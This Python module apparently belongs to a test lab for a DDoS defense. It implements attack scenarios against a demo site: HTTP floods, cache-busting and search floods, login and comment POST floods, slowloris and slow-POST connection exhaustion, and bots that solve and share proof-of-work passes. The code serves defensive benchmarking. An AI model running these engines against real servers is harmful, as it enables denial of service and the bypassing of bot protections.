"""The attacks: named, composable scenarios made of waves, each wave one tactic with a rate and a
botnet size, and the engines that send them (an open-loop flooder and a slow-connection holder).

A wave's rate is offered, not promised: each flood worker keeps its own schedule and counts the
slots it could not keep as `missed`, so a generator that cannot reach the rate says so.
"""

from __future__ import annotations

import asyncio
import random
from concurrent.futures import Executor
from dataclasses import asdict, dataclass, replace
from urllib.parse import quote, urlencode

from bench.lab.net import (
    BOTS_BASE,
    READERS_BASE,
    Connection,
    Response,
    build_request,
    connect,
    now,
    spread_address,
)
from bench.lab.readers import BROWSERS, SEARCH_WORDS, hot_article
from kalkan.defense.challenge.pages import challenge_fields
from kalkan.defense.challenge.pow import solve
from kalkan.demo import content

ORIGIN_PAGE_CAPACITY = 100.0
"""Pages per second the demo origin renders (4 workers x 40 ms); searches: 20/s."""

# Per-second counters an attack reports; `open` is a gauge (slow connections held).
COUNTERS = ("sent", "ok", "challenged", "refused", "error_5xx", "failed", "timeout", "missed",
            "pow_solved", "opened", "cut", "open")
Bins = dict[int, list[int]]
OTHER_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.6261.119 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (Linux; Android 12; Redmi Note 11) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Mobile Safari/537.36 YaBrowser/24.1.2.86.00 SA/3",
)
"""Real browser user agents that no lab reader uses: bots that share an address with readers
(cgnat) send these, so the lab's ground truth can tell them apart per (address, user agent)."""


@dataclass(frozen=True)
class Wave:
    """One tactic: what the bots send, how fast (req/s, or connections held for slow tactics),
    from how many addresses, and when within the attack window."""

    tactic: str                     # a key of TACTICS
    rate: float
    bots: int
    per_prefix: int = 50            # bot addresses per /24 (1 = every bot in its own /24)
    workers: int = 1024             # concurrent connections of a flood (bots wait timeout_s)
    requests_per_conn: int = 0      # 0: keep-alive for as long as the server allows
    random_ua: bool = False
    solve_pow: bool = False         # bots that pass the proof-of-work, then keep flooding
    farm_passes: bool = False       # ... earn passes before the attack and share them per /24
    timeout_s: float = 2.0          # bots do not wait long for an answer
    start_s: float = 0.0            # offset into the attack window
    duration_s: float | None = None  # None: until the attack window ends
    base: int = BOTS_BASE           # address plan: 127.BASE.0.0 up (READERS_BASE: CGNAT)
    host_offset: int = 0            # first host of each /24 is .host_offset+1
    ua_pool: str = "readers"        # "readers": the readers' browsers; "others": OTHER_BROWSERS

    @property
    def label(self) -> str:
        """The ground-truth label of this wave's bots."""
        return f"bot:{self.tactic}"


TACTICS = {
    "hot": "GET the most popular article",
    "bust": "GET the home pages and articles with random query strings",
    "search": "GET /search?q= and /?s= with random words (uncacheable, 200 ms each at the origin)",
    "post": "POST /comments and /wp-login.php",
    "random-pages": "GET random article paths (404s) and ?p=N variants: every one a cache miss",
    "slowloris": "hold connections open, sending one header line every 4 s",
    "slowpost": "hold connections open, sending a 100 kB comment body one byte every 2 s",
    "imitate": "browse like a reader (home page, its assets, cookies kept, solves the "
               "proof-of-work, human-like pauses, a reader's browser and header order), but "
               "half its requests are searches and 30% cache-busting page variants "
               "(?paged=N, ?p=N)",
}
SLOW_TACTICS = frozenset({"slowloris", "slowpost"})


@dataclass(frozen=True)
class Scenario:
    """A named attack made of waves (composable: `a+b` runs both scenarios' waves together),
    with what it changes about the readers (ReaderPlan fields) and, for the flash crowd, a
    shorter peace so the crowd meets a cold cache."""

    name: str
    title: str
    waves: tuple[Wave, ...]
    readers: tuple[tuple[str, float], ...] = ()
    peace_s: float | None = None


def scenarios(rate: float, bots: int, duration_s: float) -> dict[str, Scenario]:
    """The seven scenarios of the issue, scaled to an offered *rate* (req/s) and a botnet of
    *bots* addresses (the few-address and low-rate scenarios derive their own sizes)."""
    search_rate = rate / 5            # 50x the origin's 20 searches/s when rate = 5000
    per_bot = 15 / 60                 # under the default policy's 20 searches/min per address
    third = duration_s / 3
    low_rate_search = Wave("search", search_rate, max(bots, int(search_rate / per_bot)),
                           per_prefix=8, requests_per_conn=1)
    # CGNAT: readers come from 64 addresses in four /24s (16 each, 127.10.0-3.1-16); bots sit
    # beside them in those /24s (hosts .17-.64) and on 16 of the readers' own addresses.
    cgnat_readers = (("address_pool", 64.0), ("readers_per_prefix", 16.0))
    waves = {
        "hot-url": (Wave("hot", rate, 4, per_prefix=1, workers=512),),
        "cache-bust": (Wave("bust", rate, bots, random_ua=True, requests_per_conn=20),),
        "low-rate-search": (Wave("search", search_rate, max(bots, int(search_rate / per_bot)),
                                 per_prefix=8, requests_per_conn=1),),
        "post-flood": (Wave("post", rate, max(bots // 4, 50), per_prefix=25),),
        "slow": (Wave("slowloris", 1500, max(bots // 10, 50)),
                 Wave("slowpost", 1500, max(bots // 10, 50), start_s=0.5)),
        "pow-bots": (Wave("random-pages", rate, 32, per_prefix=8, workers=512,
                          solve_pow=True, farm_passes=True),),
        "mixed": (Wave("bust", rate, bots, random_ua=True, requests_per_conn=20,
                       duration_s=third),
                  Wave("search", search_rate, max(bots, int(search_rate / per_bot)),
                       per_prefix=8, requests_per_conn=1, start_s=third, duration_s=third),
                  Wave("post", rate, max(bots // 4, 50), per_prefix=25, start_s=2 * third)),
        "flash-crowd": (),
        "previews-and-apps": (low_rate_search,),
        # One request per bot every 3 s after its page load (half of them searches: 10/min,
        # under the limits); 12.5x the origin's searches. Each arrival is a page load of 12
        # requests, so the botnet is a quarter of the others: its arrivals alone are 9,000.
        "imitators": (Wave("imitate", rate / 20, max(bots // 4, int(rate / 20 * 3)),
                           per_prefix=8, solve_pow=True, timeout_s=10.0),),
        "cgnat": (low_rate_search,
                  Wave("search", 4 * 48 * per_bot, 4 * 48, per_prefix=48, requests_per_conn=1,
                       base=READERS_BASE, host_offset=16),
                  Wave("random-pages", 16.0, 16, per_prefix=4, workers=16, base=READERS_BASE,
                       ua_pool="others")),
    }
    readers = {
        "flash-crowd": (("surge", 10.0),),
        "previews-and-apps": (("previews_per_s", 4.0), ("apps", 16.0)),
        "cgnat": cgnat_readers,
    }
    titles = {
        "hot-url": "1. flood of one popular URL from 4 addresses",
        "cache-bust": f"2. cache-busting flood, random query strings and user agents, "
                      f"{bots} addresses",
        "low-rate-search": "3. low-rate botnet on search, every bot under per-address limits",
        "post-flood": "4. comment/login POST flood",
        "slow": "5. slowloris + slow POST connection exhaustion",
        "pow-bots": "6. bots that earn proof-of-work passes before the attack, then flood "
                    "random pages with them",
        "mixed": f"7. mixed wave: cache-bust, low-rate search, POST flood, "
                 f"{third:.0f} s each",
        "flash-crowd": "8. flash crowd: 10x the usual reader arrivals on a cold cache, no attack",
        "previews-and-apps": "9. link previews and feed apps keep coming during the low-rate "
                             "search botnet",
        "imitators": "10. bots that imitate readers (assets, cookies, proof-of-work, pauses) "
                     "but search and cache-bust",
        "cgnat": "11. readers behind CGNAT: bots in the readers' /24s and on 16 of their "
                 "addresses, beside the low-rate search botnet",
    }
    return {name: Scenario(name, titles[name], w, readers.get(name, ()),
                           1.0 if name == "flash-crowd" else None)
            for name, w in waves.items()}


SCENARIO_ORDER = ("hot-url", "cache-bust", "low-rate-search", "post-flood", "slow", "pow-bots",
                  "mixed", "flash-crowd", "previews-and-apps", "imitators", "cgnat")


def compose(names: list[str], table: dict[str, Scenario]) -> Scenario:
    """One scenario from several (`cache-bust+slow`): their waves run side by side, their
    reader changes apply together (the later one wins a conflict), the shortest peace holds."""
    parts = [table[n] for n in names]
    if len(parts) == 1:
        return parts[0]
    readers = dict(kv for p in parts for kv in p.readers)
    peaces = [p.peace_s for p in parts if p.peace_s is not None]
    return Scenario("+".join(names), " + ".join(p.title for p in parts),
                    tuple(w for p in parts for w in p.waves), tuple(readers.items()),
                    min(peaces) if peaces else None)


def wave_to_dict(wave: Wave) -> dict[str, object]:
    return asdict(wave)


def wave_from_dict(data: dict[str, object]) -> Wave:
    return replace(Wave("hot", 0, 1), **data)  # type: ignore[arg-type]


# --------------------------------------------------------------------------- request makers


class Requests:
    """Builds a tactic's requests for a bot (index), with the bot's fixed or a random UA.

    The header block after the request line is prebuilt per user agent, and "random" parts come
    from a counter mixed with the wave's RNG: at thousands of requests a second the generator's
    own cost decides the rate it reaches.
    """

    RANDOM_AGENTS = 512

    def __init__(self, wave: Wave, host: str, rng: random.Random) -> None:
        self.wave, self.host, self.rng = wave, host, rng
        self._pages = ["/", "/ru/", *(a.path for a in content.ARTICLES)]
        self._slugs = [a.slug for a in content.ARTICLES]
        self._hot = hot_article()
        self._counter = rng.getrandbits(32)
        # Bots sharing a pass must look alike: a pass is bound to the prefix and the user agent.
        pool = OTHER_BROWSERS if wave.ua_pool == "others" else BROWSERS
        agents = [pool[0]] if wave.farm_passes else list(pool)
        if wave.random_ua:
            agents = []
            for _ in range(self.RANDOM_AGENTS):
                v = rng.randrange(60, 130)
                agents.append(f"Mozilla/5.0 (Windows NT {rng.choice(('6.1', '10.0'))}; Win64; "
                              f"x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.{rng.randrange(10)}")
        self.agents = agents
        self._tails = [self._tail(ua, None) for ua in agents]

    def headers(self, ua: str, cookie: str | None = None) -> list[tuple[str, str]]:
        headers = [("User-Agent", ua), ("Accept", "text/html,*/*;q=0.8"),
                   ("Accept-Language", "ru-RU,ru;q=0.9")]
        if cookie:
            headers.append(("Cookie", cookie))
        return headers

    def _tail(self, ua: str, cookie: str | None) -> bytes:
        """Everything after the request target of a GET: version, headers, blank line."""
        return build_request("GET", "", self.host, self.headers(ua, cookie))[4:]

    def user_agent(self, bot: int) -> str:
        if self.wave.random_ua:
            return self.agents[self.rng.getrandbits(9)]
        return self.agents[bot % len(self.agents)]

    def _unique(self) -> int:
        self._counter += 0x9E3779B1   # a Weyl sequence: distinct values without the RNG's cost
        return self._counter & 0xFFFFFFFFFF

    def make(self, bot: int, cookie: str | None) -> bytes:
        tactic, rng = self.wave.tactic, self.rng
        if tactic == "post":
            return self._post(bot, cookie)
        if tactic == "hot":
            target = self._hot
        elif tactic == "bust":
            n = self._unique()
            target = f"{self._pages[n % len(self._pages)]}?{n:x}={n >> 7:x}"
        elif tactic == "search":
            words = " ".join(rng.choices(SEARCH_WORDS, k=2)) + f" {self._unique() % 999_983}"
            target = (f"/search?{urlencode({'q': words})}" if rng.random() < 0.7
                      else f"/?{urlencode({'s': words})}")
        elif tactic == "random-pages":
            n = self._unique()
            target = (f"/news/{self._slugs[n % len(self._slugs)]}-{n:x}/" if n & 1
                      else f"/?p={n}")
        else:
            raise ValueError(f"not a flood tactic: {tactic}")
        if cookie is None:
            tail = (self._tails[rng.getrandbits(9)] if self.wave.random_ua
                    else self._tails[bot % len(self._tails)])
        else:
            tail = self._tail(self.user_agent(bot), cookie)
        return b"GET " + target.encode("latin-1") + tail

    def _post(self, bot: int, cookie: str | None) -> bytes:
        n = self._unique()
        headers = [*self.headers(self.user_agent(bot), cookie),
                   ("Content-Type", "application/x-www-form-urlencoded")]
        if n & 1:
            form = urlencode({"article": self._slugs[n % len(self._slugs)], "author": "x",
                              "comment": f"spam {n:x}"})
            return build_request("POST", "/comments", self.host, headers, form.encode())
        form = urlencode({"log": "admin", "pwd": f"{n:x}"})
        return build_request("POST", "/wp-login.php", self.host, headers, form.encode())


# --------------------------------------------------------------------------- engines


class Attacker:
    """Runs one wave between two instants of the lab clock and counts what happened per second
    (seconds since the lab's t0)."""

    def __init__(self, wave: Wave, host: str, port: int, t0: float, start: float, end: float,
                 max_requests: int, bins: Bins, pow_pool: Executor | None, seed: int) -> None:
        self.wave, self.host, self.port = wave, host, port
        self.t0, self.start, self.end = t0, start, end
        self.max_requests = max_requests
        self.bins = bins
        self.pow_pool = pow_pool
        self.rng = random.Random(seed)
        self.requests = Requests(wave, host, self.rng)
        self.sent = 0
        self.cookies: dict[int, str] = {}     # pass cookies by the bot's /24 (a pass's scope)
        self._solving: set[int] = set()
        self._open = 0
        self.used: dict[str, set[str]] = {wave.label: set()}   # ground truth: addresses used

    def count(self, name: str, n: int = 1) -> None:
        second = int(now() - self.t0)
        row = self.bins.get(second)
        if row is None:
            row = self.bins[second] = [0] * len(COUNTERS)
        row[COUNTERS.index(name)] += n

    def address(self, bot: int) -> str:
        w = self.wave
        return spread_address(w.base, bot % w.bots, w.per_prefix, w.host_offset)

    def prefix(self, bot: int) -> int:
        return (bot % self.wave.bots) // self.wave.per_prefix

    async def run(self) -> None:
        if self.wave.farm_passes:
            await self._farm()
        await asyncio.sleep(max(0.0, self.start - now()))
        if self.wave.tactic in SLOW_TACTICS:
            n = int(self.wave.rate)
            tasks = [asyncio.create_task(self._slow(i, n)) for i in range(n)]
            tasks.append(asyncio.create_task(self._gauge()))
        elif self.wave.tactic == "imitate":
            from bench.lab.imitators import Imitator  # it builds on this module's Attacker
            tasks = [asyncio.create_task(Imitator(self, bot).run())
                     for bot in range(self.wave.bots)]
        else:
            workers = max(1, min(self.wave.workers, int(self.wave.rate) or 1))
            tasks = [asyncio.create_task(self._flood(i, workers)) for i in range(workers)]
        try:
            await asyncio.sleep(max(0.0, self.end - now()))
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

    # -- floods ---------------------------------------------------------------------------------
    async def _flood(self, index: int, workers: int) -> None:
        wave = self.wave
        interval = workers / wave.rate
        next_at = self.start + interval * index / workers   # staggered, not in lockstep
        bot = index % wave.bots
        conn: Connection | None = None
        served = 0
        try:
            while self.sent < self.max_requests:
                t = now()
                if next_at > t:
                    await asyncio.sleep(next_at - t)
                    t = now()
                if t >= self.end:
                    return
                late = int((t - next_at) / interval)
                if late:
                    self.count("missed", late)   # slots this worker could not keep
                    next_at += late * interval
                next_at += interval
                if conn is None or conn.closed or (wave.requests_per_conn and
                                                   served >= wave.requests_per_conn):
                    if conn is not None:
                        conn.close()
                        bot = (bot + workers) % wave.bots   # the next bot of this worker
                    conn, served = await self._connect(bot), 0
                    if conn is None:
                        continue
                served += 1
                await self._one(conn, bot)
        finally:
            if conn is not None:
                conn.close()

    async def _connect(self, bot: int, source: str | None = None) -> Connection | None:
        source = source or self.address(bot)
        # Farmers (host .254) earn the passes the bots then share.
        farmer = self.wave.farm_passes and source.endswith(".254")
        self.used.setdefault("bot:farmer" if farmer else self.wave.label, set()).add(source)
        try:
            return await connect(self.host, self.port, source,
                                 keep_body=self.wave.solve_pow, timeout=self.wave.timeout_s)
        except (OSError, TimeoutError):
            self.count("sent")
            self.count("failed")
            return None

    async def _one(self, conn: Connection, bot: int) -> None:
        self.sent += 1
        self.count("sent")
        try:
            resp = await conn.request(self.requests.make(bot, self.cookies.get(self.prefix(bot))),
                                      self.wave.timeout_s)
        except TimeoutError:
            self.count("timeout")
            return
        except OSError:
            self.count("failed")   # refused, reset or closed before the answer
            return
        if (self.tally(resp) and self.wave.solve_pow
                and self.prefix(bot) not in self._solving):
            await self._solve(conn, bot, resp.body)

    def tally(self, resp: Response) -> bool:
        """Count an answer by its outcome; True when it was a challenge page."""
        status = resp.status
        if status < 400:
            self.count("ok")
        elif status == 403 and b"x-kalkan-challenge" in resp.headers:
            self.count("challenged")
            return True
        elif status in (403, 429):
            self.count("refused")
        elif status >= 500:
            self.count("error_5xx")
        else:
            self.count("ok")   # 404s of random pages: answered, at the origin's cost
        return False

    async def _solve(self, conn: Connection, bot: int, page: bytes) -> None:
        """Pass the challenge like a browser would, then flood with the pass cookie."""
        fields = challenge_fields(page)
        if fields is None or self.pow_pool is None:
            return
        self._solving.add(self.prefix(bot))
        try:
            c, difficulty, ret = fields
            nonce = await asyncio.get_running_loop().run_in_executor(
                self.pow_pool, solve, c, difficulty)
            ua = self.requests.user_agent(bot)
            raw = build_request("GET", f"/.kalkan/pow?c={quote(c, safe='')}&n={nonce}"
                                       f"&r={quote(ret, safe='')}", self.host,
                                self.requests.headers(ua))
            answer = await conn.request(raw, 10.0)
            for cookie in answer.set_cookies:
                self.cookies[self.prefix(bot)] = cookie.decode("latin-1").split(";", 1)[0]
                self.count("pow_solved")
        except (OSError, TimeoutError):
            pass
        finally:
            self._solving.discard(self.prefix(bot))

    async def _farm(self) -> None:
        """Before the attack, while the edge is at peace (lowest difficulty), one farmer per /24
        (host .254, not a bot) trips the login rate rule with GET /wp-login.php until it is
        challenged and solves it; the pass then serves every bot of that /24 (a pass is bound
        to the prefix and the user agent, not to the address that earned it)."""
        limit = asyncio.Semaphore(8)

        async def one(bot: int) -> None:
            farmer = self.address(bot).rsplit(".", 1)[0] + ".254"
            async with limit:
                conn = await self._connect(bot, farmer)
                if conn is None:
                    return
                raw = b"GET /wp-login.php" + self.requests._tail(self.requests.user_agent(bot),
                                                                  None)
                try:
                    for _ in range(15):
                        if now() >= self.start:
                            return
                        resp = await conn.request(raw, 5.0)
                        if b"x-kalkan-challenge" in resp.headers:
                            await self._solve(conn, bot, resp.body)
                            return
                except (OSError, TimeoutError):
                    return
                finally:
                    conn.close()

        first_bots = range(0, self.wave.bots, self.wave.per_prefix)
        await asyncio.gather(*(one(bot) for bot in first_bots))

    # -- slow connections -----------------------------------------------------------------------
    async def _gauge(self) -> None:
        """Once in the middle of every second: how many slow connections this wave holds."""
        while True:
            elapsed = now() - self.t0
            await asyncio.sleep(int(elapsed) + 1.5 - elapsed)
            self.count("open", self._open)

    async def _slow(self, index: int, total: int) -> None:
        # Ramp up over two seconds: a real botnet's connections do not arrive in one instant.
        await asyncio.sleep(2.0 * index / total)
        bot = index % self.wave.bots
        ua = self.requests.user_agent(bot)
        self.used[self.wave.label].add(self.address(bot))
        while now() < self.end:
            try:
                conn = await connect(self.host, self.port, self.address(bot), keep_body=False,
                                     timeout=self.wave.timeout_s)
            except (OSError, TimeoutError):
                self.count("failed")
                await asyncio.sleep(1.0)
                continue
            self.count("opened")
            self._open += 1
            try:
                await self._hold(conn, index, ua)
            finally:
                self._open -= 1
                conn.close()
            self.count("cut")
            await asyncio.sleep(0.5)

    async def _hold(self, conn: Connection, index: int, ua: str) -> None:
        if self.wave.tactic == "slowloris":
            conn.send(f"GET /?id={index} HTTP/1.1\r\nHost: {self.host}\r\nUser-Agent: {ua}\r\n"
                      .encode())
            step, piece = 4.0, b"X-Keep: %d\r\n"
        else:
            conn.send(f"POST /comments HTTP/1.1\r\nHost: {self.host}\r\nUser-Agent: {ua}\r\n"
                      "Content-Type: application/x-www-form-urlencoded\r\n"
                      "Content-Length: 100000\r\n\r\ncomment=".encode())
            step, piece = 2.0, b"a"
        n = 0
        while not conn.closed and now() < self.end:
            await asyncio.sleep(step)
            n += 1
            conn.send(piece % n if b"%d" in piece else piece)
